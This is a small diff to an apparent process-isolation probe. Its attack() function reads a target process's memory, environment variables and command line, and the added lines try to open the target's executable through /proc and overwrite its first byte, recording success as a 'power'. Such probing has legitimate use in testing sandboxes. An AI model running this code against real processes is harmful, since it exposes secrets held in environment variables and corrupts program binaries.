@@ -74,6 +74,10 @@ def attack(pid: int, pidfd: int) -> None:
         line.split()[0].split(b"-") for line in before.splitlines() if line.split()[1].startswith(b"r"))]
     content = memory(pid, [area for area in areas if area[1] < 1 << 63])
     environ = read(f"/proc/{pid}/environ") + read(f"/proc/{pid}/cmdline")
+    with contextlib.suppress(OSError):
+        program = os.open(f"/proc/{pid}/exe", os.O_RDWR)
+        os.pwrite(program, b"x", 0)
+        found["powers"].add("to write " + os.readlink(f"/proc/self/fd/{program}"))
     descriptors = {}
     for number in range(24):
         with contextlib.suppress(OSError):
